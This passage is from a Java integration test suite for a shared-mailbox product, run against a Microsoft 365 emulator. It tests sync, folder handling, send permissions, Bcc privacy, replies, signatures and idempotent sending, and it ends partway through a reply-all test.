package com.workestra.sharedmailboxes.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.workestra.sharedmailboxes.it.TestWorkspace.Person;
import com.workestra.sharedmailboxes.m365emulator.OutgoingAttachments;
import com.workestra.sharedmailboxes.m365emulator.SentAttachment;
import com.workestra.sharedmailboxes.m365emulator.SentMail;
import org.junit.jupiter.api.Test;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.Random;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.function.Supplier;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 6 end to end against the Microsoft 365 emulator: delta sync and backfill, read state both ways, removals,
 * expired delta tokens, a lost run resumed, two users on one mailbox, throttling, sending as / on behalf / refused,
 * replies, signatures, history after disconnect, workspace isolation.
 */
class MailFlowsIT extends ServiceIT {

    static final Duration WAIT = Duration.ofSeconds(45);

    @Test
    void deliveredMailArrivesReadInOutlookShowsReadAndRemovedShowsRemoved() {
        Person alice = workspace.person("alice");
        UUID personal = alice.connect();
        String address = alice.microsoft().upn().toLowerCase();
        awaitCurrent(alice, personal);

        // A personal mailbox has push: the change notification alone brings the message in, no Sync now.
        assertEquals("webhook", alice.connection(personal).get("delivery").asText());
        String graphId = workspace.tenant.deliver(address, "customer@example.com", "Order 1001 arrived", "Where is my parcel?");
        JsonNode message = awaitMessage(alice, "q=" + encode("Order 1001"), m -> true);
        assertEquals(address, message.get("mailbox").asText());
        assertEquals("inbox", message.get("folder").asText());
        assertFalse(message.get("isRead").asBoolean());
        assertEquals("customer@example.com", message.get("from").get("address").asText());
        String id = message.get("id").asText();
        JsonNode full = alice.api().get("/api/v1/messages/" + id).json();
        assertEquals("Where is my parcel?", full.get("body").get("content").asText());

        workspace.tenant.markRead(address, graphId, true);
        syncNow(alice, personal);
        awaitMessage(alice, "q=" + encode("Order 1001"), m -> m.get("isRead").asBoolean());

        workspace.tenant.deleteMessage(address, graphId);
        syncNow(alice, personal);
        await(() -> alice.api().get("/api/v1/messages?q=" + encode("Order 1001")).json().get("items"), items -> items.isEmpty());
        JsonNode withRemoved = alice.api().get("/api/v1/messages?includeRemoved=true&q=" + encode("Order 1001")).json().get("items");
        assertEquals(1, withRemoved.size());
        assertTrue(withRemoved.get(0).get("removed").asBoolean());
        assertEquals(200, alice.api().get("/api/v1/messages/" + id).status(), "removed mail stays as history");
    }

    @Test
    void aMessageMovedToAFolderThatIsNotSyncedShowsAsMovedThereAndADeletedOneAsDeleted() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        String movedSubject = "Moved away " + workspace.suffix;
        String deletedSubject = "Hard deleted " + workspace.suffix;
        String moved = workspace.tenant.deliver(support, "customer@example.com", movedSubject, "to the bin");
        String deleted = workspace.tenant.deliver(support, "customer@example.com", deletedSubject, "gone for good");
        awaitCurrent(alice, shared);
        syncNow(alice, shared);
        awaitMessage(alice, "q=" + encode(movedSubject), m -> true);
        awaitMessage(alice, "q=" + encode(deletedSubject), m -> true);

        // Someone deletes one in Outlook (it moves to Deleted Items, which Workestra does not sync), and purges the other.
        workspace.tenant.moveMessage(support, moved, "deleteditems");
        workspace.tenant.deleteMessage(support, deleted);
        syncNow(alice, shared);
        JsonNode movedRow = await(() -> alice.api().get("/api/v1/messages?includeRemoved=true&q=" + encode(movedSubject)).json()
                .get("items").get(0), row -> row != null && row.get("removed").asBoolean());
        assertEquals("moved", movedRow.get("removedReason").asText(), movedRow.toString());
        assertEquals("Deleted Items", movedRow.get("movedTo").asText(), movedRow.toString());
        JsonNode deletedRow = await(() -> alice.api().get("/api/v1/messages?includeRemoved=true&q=" + encode(deletedSubject)).json()
                .get("items").get(0), row -> row != null && row.get("removed").asBoolean());
        assertEquals("deleted", deletedRow.get("removedReason").asText(), deletedRow.toString());
        assertTrue(deletedRow.get("movedTo").isNull(), deletedRow.toString());
        assertTrue(alice.api().get("/api/v1/messages?q=" + encode(movedSubject)).json().get("items").isEmpty(),
                "hidden from the inbox by default, like any removal");
    }

    @Test
    void everyFolderButDeletedItemsJunkAndDraftsIsSyncedAndAMoveToASubfolderShowsThereOnce() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        String customers = workspace.tenant.createFolder(support, "inbox", "Customers");
        String projects = workspace.tenant.createFolder(support, null, "Projects");
        String s = workspace.suffix;
        workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "customer@example.com", "Kickoff " + s, "plan"), projects);
        workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "spam@example.com", "Junk " + s, "win"), "junkemail");
        workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "customer@example.com", "Draft " + s, "wip"), "drafts");
        workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "customer@example.com", "Binned " + s, "old"), "deleteditems");
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);

        // A folder someone made shows its messages, with its folder (an id the filter takes) and where it is.
        JsonNode kickoff = awaitMessage(alice, "q=" + encode("Kickoff " + s), m -> true);
        assertEquals(projects, kickoff.get("folder").asText(), kickoff.toString());
        assertEquals("Projects", kickoff.get("folderPath").asText(), kickoff.toString());
        JsonNode inProjects = firstPage(alice, "folder=" + encode(projects)).get("items");
        assertEquals(1, inProjects.size(), inProjects.toString());
        assertTrue(firstPage(alice, "folder=inbox&q=" + encode("Kickoff " + s)).get("items").isEmpty());
        // Deleted Items, Junk Email and Drafts are not synced unless chosen.
        for (String skipped : List.of("Junk ", "Draft ", "Binned ")) {
            assertTrue(firstPage(alice, "includeRemoved=true&q=" + encode(skipped + s)).get("items").isEmpty(), skipped);
        }
        JsonNode folders = alice.api().get("/api/v1/outlook/connections/" + shared + "/folders").json();
        assertTrue(folders.get("listed").asBoolean(), folders.toString());
        List<String> selected = new ArrayList<>();
        for (JsonNode folder : folders.get("folders")) {
            String wellKnown = folder.get("wellKnownName").isNull() ? "" : folder.get("wellKnownName").asText();
            assertEquals(!List.of("deleteditems", "junkemail", "drafts").contains(wellKnown), folder.get("selected").asBoolean(),
                    folder.toString());
            if (folder.get("folder").asText().equals(customers)) {
                assertEquals("Inbox/Customers", folder.get("path").asText());
                assertEquals("inbox", folder.get("parentFolder").asText());
            }
            if (folder.get("selected").asBoolean() && !folder.get("folder").asText().equals(projects)) {
                selected.add("\"" + folder.get("folder").asText() + "\"");
            }
        }

        // Moved to a subfolder in Outlook: the same message (same id), now in that folder, once.
        String orderSubject = "Order moved " + s;
        String order = workspace.tenant.deliver(support, "customer@example.com", orderSubject, "file me");
        syncNow(alice, shared);
        String id = awaitMessage(alice, "q=" + encode(orderSubject), m -> true).get("id").asText();
        workspace.tenant.moveMessage(support, order, customers);
        syncNow(alice, shared);
        JsonNode moved = await(() -> firstPage(alice, "includeRemoved=true&q=" + encode(orderSubject)).get("items"),
                items -> items.size() == 1 && customers.equals(items.get(0).get("folder").asText())
                        && !items.get(0).get("removed").asBoolean()).get(0);
        assertEquals(id, moved.get("id").asText(), "it keeps its identity");
        assertEquals("Inbox/Customers", moved.get("folderPath").asText());

        // Projects deselected: it stops syncing; what came from it stays, as it was.
        var chosen = alice.api().put("/api/v1/outlook/connections/" + shared + "/folders",
                "{\"selected\":[" + String.join(",", selected) + "]}");
        assertEquals(200, chosen.status(), chosen.body());
        String zeta = workspace.tenant.createFolder(support, null, "Zeta");
        workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "customer@example.com", "Late " + s, "x"), projects);
        // Zeta comes after Projects in a run: a run that brings a second marker into Zeta began after Late arrived.
        for (String marker : List.of("Marker one " + s, "Marker two " + s)) {
            workspace.tenant.moveMessage(support, workspace.tenant.deliver(support, "customer@example.com", marker, "x"), zeta);
            syncNow(alice, shared);
            awaitMessage(alice, "q=" + encode(marker), m -> zeta.equals(m.get("folder").asText()));
        }
        assertTrue(firstPage(alice, "includeRemoved=true&q=" + encode("Late " + s)).get("items").isEmpty(),
                "a deselected folder is not read");
        assertEquals(projects, firstPage(alice, "q=" + encode("Kickoff " + s)).get("items").get(0).get("folder").asText());

        // A folder value nobody has is not found.
        var unknown = alice.api().get("/api/v1/messages?folder=AQMkADnotafolder");
        assertEquals(404, unknown.status(), unknown.body());
        assertTrue(unknown.contentType().startsWith("application/problem+json"), unknown.contentType());
        var unknownChoice = alice.api().put("/api/v1/outlook/connections/" + shared + "/folders", "{\"selected\":[\"AQMkADnope\"]}");
        assertEquals(404, unknownChoice.status(), unknownChoice.body());
    }

    @Test
    void historyBackfillsWithProgressAndTwoUsersOnOneMailboxWriteEachMessageOnce() {
        Person alice = workspace.person("alice");
        Person bob = workspace.person("bob");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.seedMessages(support, "inbox", 1_234);
        workspace.tenant.seedMessages(support, "sentitems", 56);
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantFullAccess(support, bob.microsoft().upn());
        UUID aliceShared = alice.addSharedOk(alice.connect(), support);
        UUID bobShared = bob.addSharedOk(bob.connect(), support);

        JsonNode aliceView = awaitCurrent(alice, aliceShared);
        JsonNode bobView = awaitCurrent(bob, bobShared);
        assertEquals("healthy", aliceView.get("health").get("badge").asText(), aliceView.toString());
        assertTrue(aliceView.get("sync").get("historyComplete").asBoolean(), aliceView.toString());
        assertTrue(aliceView.get("sync").get("messagesSynced").asLong() >= 1_290, aliceView.toString());
        assertTrue(bobView.get("sync").get("historyComplete").asBoolean(), bobView.toString());

        assertEquals(1_290, Sql.count("SELECT count(*) FROM message m JOIN mailbox b ON b.id = m.mailbox_id WHERE b.address = ?", support));
        assertEquals(56, Sql.count("SELECT count(*) FROM message m JOIN mailbox b ON b.id = m.mailbox_id"
                + " WHERE b.address = ? AND m.folder = 'SENT'", support));
        assertEquals(2, Sql.count("SELECT count(DISTINCT connection_id) FROM sync_cursor c JOIN outlook_connection o"
                + " ON o.id = c.connection_id JOIN mailbox b ON b.id = o.mailbox_id WHERE b.address = ?", support),
                "each connection has its own cursors");

        // Both read the same rows; an answer by Alice shows as read for Bob.
        JsonNode newest = firstPage(bob, "mailbox=" + encode(support) + "&folder=inbox&limit=3");
        assertEquals(3, newest.get("items").size());
        assertEquals(workspace.tenant.subjects(support, "inbox").get(0), newest.get("items").get(0).get("subject").asText());
        assertNotNull(newest.get("nextCursor"));
        String id = newest.get("items").get(0).get("id").asText();
        assertEquals(200, alice.api().patch("/api/v1/messages/" + id, "{\"isRead\":false}").status());
        assertEquals(200, alice.api().patch("/api/v1/messages/" + id, "{\"isRead\":true}").status());
        assertTrue(bob.api().get("/api/v1/messages/" + id).json().get("isRead").asBoolean());

        // Keyset pagination walks the whole folder without gaps or repeats.
        Set<String> seen = new HashSet<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = firstPage(bob, "mailbox=" + encode(support) + "&folder=sent&limit=20"
                    + (cursor == null ? "" : "&cursor=" + cursor));
            page.get("items").forEach(item -> assertTrue(seen.add(item.get("id").asText()), "no repeats"));
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
            pages++;
        } while (cursor != null && pages < 10);
        assertEquals(56, seen.size());
    }

    @Test
    void anExpiredDeltaTokenRestartsTheFolderAndDedupes() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.seedMessages(support, "inbox", 300);
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);

        workspace.tenant.expireDeltaTokens(support);
        workspace.tenant.deliver(support, "late@example.com", "After the expiry", "hello");
        syncNow(alice, shared);
        awaitMessage(alice, "q=" + encode("After the expiry"), m -> true);
        assertEquals(301, Sql.count("SELECT count(*) FROM message m JOIN mailbox b ON b.id = m.mailbox_id WHERE b.address = ?", support));
        assertTrue(Sql.count("SELECT sum(resyncs) FROM sync_cursor WHERE connection_id = ?", shared) >= 1);
        assertEquals("healthy", alice.badge(shared));
    }

    @Test
    void afterAnExpiredDeltaTokenTheFreshRoundAlsoRemovesWhatExchangeDeletedDuringTheGap() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.seedMessages(support, "inbox", 40);
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        String goneSubject = "Deleted in the gap " + workspace.suffix;
        String gone = workspace.tenant.deliver(support, "customer@example.com", goneSubject, "soon gone");
        awaitCurrent(alice, shared);
        syncNow(alice, shared);
        awaitMessage(alice, "q=" + encode(goneSubject), m -> true);

        // Exchange forgets the delta state, and a message is deleted before the next sync: no @removed will ever say so.
        workspace.tenant.expireDeltaTokens(support);
        workspace.tenant.deleteMessage(support, gone);
        syncNow(alice, shared);
        await(() -> alice.api().get("/api/v1/messages?q=" + encode(goneSubject)).json().get("items"), items -> items.isEmpty());
        JsonNode removed = alice.api().get("/api/v1/messages?includeRemoved=true&q=" + encode(goneSubject)).json().get("items");
        assertEquals(1, removed.size(), removed.toString());
        assertTrue(removed.get(0).get("removed").asBoolean(), "kept as history, shown as removed");
        assertTrue(Sql.count("SELECT sum(resyncs) FROM sync_cursor WHERE connection_id = ?", shared) >= 1);
        assertEquals(40, Sql.count("SELECT count(*) FROM message m JOIN mailbox b ON b.id = m.mailbox_id"
                + " WHERE b.address = ? AND m.removed_at IS NULL", support), "everything Exchange still has stays");
        // Inbox's round removed it; Sent Items' fresh round may still be committing its last page.
        await(() -> Sql.count("SELECT count(*) FROM sync_cursor WHERE connection_id = ? AND reconcile_since IS NOT NULL", shared),
                unfinished -> unfinished == 0);
        assertEquals("healthy", alice.badge(shared));
    }

    @Test
    void aThrottlingStormAndServerErrorsLoseNothing() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("busy");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);

        for (int i = 0; i < 5; i++) {
            workspace.tenant.deliver(support, "storm@example.com", "Storm " + i, "body " + i);
        }
        workspace.tenant.throttleNext(support, 12, Duration.ofSeconds(1));
        syncNow(alice, shared);
        await(() -> firstPage(alice, "q=Storm&limit=50").get("items"), items -> items.size() == 5);
        // The Inbox can be stored by a run that the storm still fails in Sent Items: wait for a whole run to succeed,
        // which ends the consecutive failures, so that the 5xx below starts its backoff from the first step again.
        alice.awaitConnection(shared, MailFlowsIT::succeededSinceItsLastFailure, Duration.ofSeconds(90));

        workspace.tenant.deliver(support, "storm@example.com", "After the 5xx", "body");
        workspace.tenant.failNext(support, 3, 500);
        syncNow(alice, shared);
        awaitMessage(alice, "q=" + encode("After the 5xx"), m -> true);
        JsonNode view = alice.connection(shared);
        assertEquals("healthy", view.get("health").get("badge").asText(), "transient failures never turn the row red: " + view);
        assertEquals(6, Sql.count("SELECT count(*) FROM message m JOIN mailbox b ON b.id = m.mailbox_id WHERE b.address = ?", support));
    }

    @Test
    void sendingAsTheSharedAddressOnBehalfAndRefused() {
        Person alice = workspace.person("alice");
        Person bob = workspace.person("bob");
        Person carol = workspace.person("carol");
        String support = workspace.sharedMailbox("support");
        for (Person person : List.of(alice, bob, carol)) {
            workspace.tenant.grantFullAccess(support, person.microsoft().upn());
        }
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        workspace.tenant.grantSendOnBehalf(support, bob.microsoft().upn());
        UUID aliceShared = alice.addSharedOk(alice.connect(), support);
        bob.addSharedOk(bob.connect(), support);
        carol.addSharedOk(carol.connect(), support);

        List<String> from = new ArrayList<>();
        alice.api().get("/api/v1/mailboxes").json().forEach(mailbox -> from.add(mailbox.get("address").asText()));
        assertTrue(from.contains(support) && from.contains(alice.microsoft().upn().toLowerCase()), from.toString());

        String subject = "Send as " + workspace.suffix;
        var sent = alice.api().post("/api/v1/messages", sendBody(support, "customer@example.com", subject, "Hello from support"));
        assertEquals(202, sent.status(), sent.body());
        SentMail asShared = sentMail(subject);
        assertEquals(support, asShared.from().toLowerCase());
        assertEquals(support, asShared.sender().toLowerCase(), "Send as: the shared address is the sender");
        assertEquals(support, asShared.savedToSentItemsOf().toLowerCase(), "saved in the shared mailbox's Sent Items");
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'SENT' AND user_id = ? AND mailbox = ?",
                alice.userId(), support));
        syncNow(alice, aliceShared);
        awaitMessage(alice, "folder=sent&q=" + encode(subject), m -> support.equals(m.get("mailbox").asText()));

        String onBehalf = "On behalf " + workspace.suffix;
        assertEquals(202, bob.api().post("/api/v1/messages", sendBody(support, "customer@example.com", onBehalf, "Hi")).status());
        SentMail behalf = sentMail(onBehalf);
        assertEquals(support, behalf.from().toLowerCase());
        assertEquals(bob.microsoft().upn().toLowerCase(), behalf.sender().toLowerCase(), "Send on behalf: the user is the sender");

        String personalSubject = "Personal " + workspace.suffix;
        assertEquals(202, bob.api().post("/api/v1/messages",
                sendBody(bob.microsoft().upn(), "friend@example.com", personalSubject, "Hi")).status());
        assertEquals(bob.microsoft().upn().toLowerCase(), sentMail(personalSubject).savedToSentItemsOf().toLowerCase());

        int before = workspace.tenant.sentMail().size();
        var refused = carol.api().post("/api/v1/messages", sendBody(support, "customer@example.com", "Refused", "Hi"));
        assertEquals(403, refused.status(), refused.body());
        assertEquals("SEND_AS_DENIED", refused.json().get("code").asText());
        assertTrue(refused.json().get("detail").asText().contains("Send as"), refused.body());
        assertTrue(refused.json().get("detail").asText().contains("No Workestra-side change is needed"), refused.body());

        String elsewhere = workspace.sharedMailbox("sales");
        var notConnected = alice.api().post("/api/v1/messages", sendBody(elsewhere, "customer@example.com", "Nope", "Hi"));
        assertEquals(403, notConnected.status(), notConnected.body());
        assertEquals("FORBIDDEN", notConnected.json().get("code").asText());
        assertEquals(before, workspace.tenant.sentMail().size(), "refused before Graph was called");

        var invalid = alice.api().post("/api/v1/messages", "{\"from\":\"" + support + "\",\"to\":[\"not an address\"],"
                + "\"subject\":\"x\",\"body\":{\"contentType\":\"text\",\"content\":\"x\"}}");
        assertEquals(400, invalid.status(), invalid.body());
    }

    @Test
    void ccAndBccRecipientsGetTheMessageAndNoCopyShowsTheBcc() {
        Person alice = workspace.person("alice");
        Person bob = workspace.person("bob");
        Person carol = workspace.person("carol");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        alice.addSharedOk(alice.connect(), support);
        UUID bobPersonal = bob.connect();
        UUID carolPersonal = carol.connect();
        awaitCurrent(bob, bobPersonal);
        awaitCurrent(carol, carolPersonal);
        String bobAddress = bob.microsoft().upn().toLowerCase();
        String carolAddress = carol.microsoft().upn().toLowerCase();

        String subject = "Copies " + workspace.suffix;
        var sent = alice.api().post("/api/v1/messages", "{\"from\":\"" + support + "\",\"to\":[{\"address\":\"customer@example.com\"}],"
                + "\"cc\":[{\"address\":\"" + bobAddress + "\",\"name\":\"Bob\"}],\"bcc\":[\"" + carolAddress + "\"],"
                + "\"subject\":\"" + subject + "\",\"body\":{\"contentType\":\"text\",\"content\":\"For your information\"}}");
        assertEquals(202, sent.status(), sent.body());
        SentMail atMicrosoft = sentMail(subject);
        assertEquals(List.of("customer@example.com"), atMicrosoft.to());
        assertEquals(List.of(bobAddress), atMicrosoft.cc());
        assertEquals(List.of(carolAddress), atMicrosoft.bcc(), "the Bcc reaches Microsoft");
        assertEquals(support, atMicrosoft.from().toLowerCase());

        // Exchange delivers to both; each one's own connection syncs the copy. Neither copy names the Bcc recipient.
        for (Person recipient : List.of(bob, carol)) {
            JsonNode copy = awaitMessage(recipient, "folder=inbox&q=" + encode(subject),
                    m -> recipient.microsoft().upn().equalsIgnoreCase(m.get("mailbox").asText()));
            assertEquals(List.of("customer@example.com"), addresses(copy.get("to")), copy.toString());
            assertEquals(List.of(bobAddress), addresses(copy.get("cc")), copy.toString());
            assertFalse(addresses(copy.get("to")).contains(carolAddress) || addresses(copy.get("cc")).contains(carolAddress),
                    "no copy shows the Bcc: " + copy);
        }
    }

    @Test
    void repliesThreadAndSignaturesAreApplied() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);

        var signature = alice.api().send(alice.api().request("/api/v1/mailboxes/" + encode(support) + "/signature")
                .header("Content-Type", "application/json")
                .PUT(java.net.http.HttpRequest.BodyPublishers.ofString("{\"contentType\":\"text\",\"content\":\"Alice, Support team\"}")));
        assertEquals(200, signature.status(), signature.body());

        String subject = "Question " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", subject, "Can you help?");
        syncNow(alice, shared);
        JsonNode original = awaitMessage(alice, "q=" + encode(subject), m -> true);
        var replied = alice.api().post("/api/v1/messages/" + original.get("id").asText() + "/reply",
                "{\"body\":{\"contentType\":\"text\",\"content\":\"Yes, we can.\"}}");
        assertEquals(202, replied.status(), replied.body());
        SentMail reply = sentMail("RE: " + subject);
        assertEquals(original.get("internetMessageId").asText(), reply.inReplyTo(), "the reply threads");
        assertEquals(original.get("conversationId").asText(), reply.conversationId());
        assertTrue(reply.body().contains("Alice, Support team"), "signature appended: " + reply.body());
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'REPLIED' AND user_id = ? AND mailbox = ?",
                alice.userId(), support));

        String sentSubject = "Signed " + workspace.suffix;
        alice.api().post("/api/v1/messages", sendBody(support, "customer@example.com", sentSubject, "Body text"));
        assertTrue(sentMail(sentSubject).body().contains("Alice, Support team"));
    }

    @Test
    void aSendOrReplyRetriedWithItsIdempotencyKeyGoesOutOnceAndAnswersAsTheFirstDid() throws Exception {
        Person alice = workspace.person("alice");
        Person carol = workspace.person("carol");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantFullAccess(support, carol.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        carol.addSharedOk(carol.connect(), support);

        // A retry (the answer got lost on the way) with the same key: one mail at Microsoft, the same answer twice.
        String subject = "Exactly once " + workspace.suffix;
        String message = sendBody(support, "customer@example.com", subject, "Sent once");
        String key = UUID.randomUUID().toString();
        var first = sendWithKey(alice, "/api/v1/messages", key, message);
        var retried = sendWithKey(alice, "/api/v1/messages", key, message);
        assertEquals(202, first.status(), first.body());
        assertEquals(first.status(), retried.status());
        assertEquals(first.body(), retried.body());
        assertEquals(1, sentWithSubject(subject), "the retry did not send again");

        // The same key with another message is refused, and sends nothing.
        var reused = sendWithKey(alice, "/api/v1/messages", key, sendBody(support, "customer@example.com", subject, "Other text"));
        assertEquals(422, reused.status(), reused.body());
        assertEquals("IDEMPOTENCY_KEY_REUSED", reused.json().get("code").asText());
        assertEquals(1, sentWithSubject(subject));
        // Keys are the caller's own: Carol's request with Alice's key is hers to send (and Exchange refuses her).
        var carolsOwn = sendWithKey(carol, "/api/v1/messages", key, message);
        assertEquals(403, carolsOwn.status(), carolsOwn.body());
        // Exchange's refusal is the answer her retries get, as they are: status and body.
        var carolAgain = sendWithKey(carol, "/api/v1/messages", key, message);
        assertEquals(403, carolAgain.status());
        assertEquals(carolsOwn.body(), carolAgain.body());
        assertEquals(1, sentWithSubject(subject));

        // Duplicates sent at once, while Microsoft is slow: one mail; each gets the answer or 409 while it is under way.
        String raced = "Raced " + workspace.suffix;
        String racedMessage = sendBody(support, "customer@example.com", raced, "Sent once");
        String racedKey = UUID.randomUUID().toString();
        workspace.tenant.addLatency(Duration.ofMillis(1500));
        List<ApiClient.Reply> replies = new ArrayList<>();
        try {
            ExecutorService clients = Executors.newFixedThreadPool(4);
            try {
                List<Future<ApiClient.Reply>> pending = new ArrayList<>();
                for (int i = 0; i < 4; i++) {
                    pending.add(clients.submit(() -> sendWithKey(alice, "/api/v1/messages", racedKey, racedMessage)));
                }
                for (Future<ApiClient.Reply> reply : pending) {
                    replies.add(reply.get(2, TimeUnit.MINUTES));
                }
            } finally {
                clients.shutdownNow();
            }
        } finally {
            workspace.tenant.addLatency(Duration.ZERO);
        }
        assertEquals(1, sentWithSubject(raced), "concurrent duplicates sent once: " + replies);
        assertTrue(replies.stream().anyMatch(reply -> reply.status() == 202), replies.toString());
        for (ApiClient.Reply reply : replies) {
            assertTrue(reply.status() == 202 || reply.status() == 409, reply.toString());
            if (reply.status() == 409) {
                assertEquals("IDEMPOTENCY_KEY_IN_USE", reply.json().get("code").asText());
                assertNotNull(reply.header("Retry-After"), reply.toString());
            }
        }
        var afterwards = sendWithKey(alice, "/api/v1/messages", racedKey, racedMessage);
        assertEquals(202, afterwards.status(), afterwards.body());
        assertEquals(1, sentWithSubject(raced));

        // A reply, too.
        String question = "Question " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", question, "Can you help?");
        syncNow(alice, shared);
        String id = awaitMessage(alice, "q=" + encode(question), m -> true).get("id").asText();
        String replyKey = UUID.randomUUID().toString();
        String answer = "{\"body\":{\"contentType\":\"text\",\"content\":\"Yes.\"}}";
        var replied = sendWithKey(alice, "/api/v1/messages/" + id + "/reply", replyKey, answer);
        var repliedAgain = sendWithKey(alice, "/api/v1/messages/" + id + "/reply", replyKey, answer);
        assertEquals(202, replied.status(), replied.body());
        assertEquals(202, repliedAgain.status(), repliedAgain.body());
        assertEquals(1, sentWithSubject("RE: " + question));
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'REPLIED' AND user_id = ?", alice.userId()),
                "audited once");
    }

    @Test
    void replyAllAnswersTheSenderAndEveryRecipientButTheSharedMailboxItself() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);

        String subject = "Team question " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", List.of(support, "colleague@example.com"),
                List.of("manager@example.com"), subject, "Who can help?");
        syncNow(alice, shared);
        JsonNode original = awaitMessage(alice, "q=" + encode(subject), m -> true);
        assertEquals(List.of(support, "colleague@example.com"), addresses(original.get("to")), original.toString());
        assertEquals(List.of("manager@example.com"), addresses(original.get("cc")), original.toString());
        String id = original.get("id").asText();

        var answered = alice.api().post("/api/v1/messages/" + id + "/reply", "{\"body\":{\"contentType\":\"text\",\"content\":\"Only you.\"}}");
        assertEquals(202, answered.status(), answered.body());
        SentMail reply = sentMails("RE: " + subject, 1).get(0);
        assertEquals(List.of("customer@example.com"), reply.to(), "a reply answers the sender");
        assertEquals(List.of(), reply.cc());

        var answeredAll = alice.api().post("/api/v1/messages/" + id + "/reply",
                "{\"replyAll\":true,\"body\":{\"contentType\":\"text\",\"content\":\"All of you.\"}}");
        assertEquals(202, answeredAll.status(), answeredAll.body());
        SentMail replyAll = sentMails("RE: " + subject, 2).get(1);
        assertEquals(List.of("customer@example.com", "colleague@example.com"), replyAll.to(),
                "reply all keeps the sender and the other recipients, without the shared mailbox itself");
        assertEquals(List.of("manager@example.com"), replyAll.cc());
        assertEquals(support, replyAll.from().toLowerCase());
        assertEquals(original.get("internetMessageId").asText(), replyAll.inReplyTo(), "in the same thread");
        assertTrue(replyAll.body().contains("All of you."), replyAll.body());
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'REPLIED' AND user_id = ? AND detail LIKE 'reply all%'",
                alice.userId()));
    }

    @Test
    void replyAllWithCcAndBccLeavesOutTheMailboxAndTheReplierAndAForwardQuotesTheOriginalBelowTheSignature() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        String sales = workspace.sharedMailbox("sales");
        String archive = workspace.sharedMailbox("archive");
        String aliceAddress = alice.microsoft().upn().toLowerCase();
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);
        var signature = alice.api().send(alice.api().request("/api/v1/mailboxes/" + encode(support) + "/signature")
                .header("Content-Type", "application/json")
                .PUT(java.net.http.HttpRequest.BodyPublishers.ofString("{\"contentType\":\"text\",\"content\":\"Alice, Support team\"}")));
        assertEquals(200, signature.status(), signature.body());

        // The customer wrote to support@ and a colleague, with Alice herself and a manager in Cc.
        String subject = "Escalation " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", List.of(support, "colleague@example.com"),
                List.of(aliceAddress, "manager@example.com"), subject, "Who can help?");
        syncNow(alice, shared);
        JsonNode original = awaitMessage(alice, "q=" + encode(subject), m -> true);
        String id = original.get("id").asText();

        var answered = alice.api().post("/api/v1/messages/" + id + "/reply", "{\"replyAll\":true,\"cc\":[\"" + sales
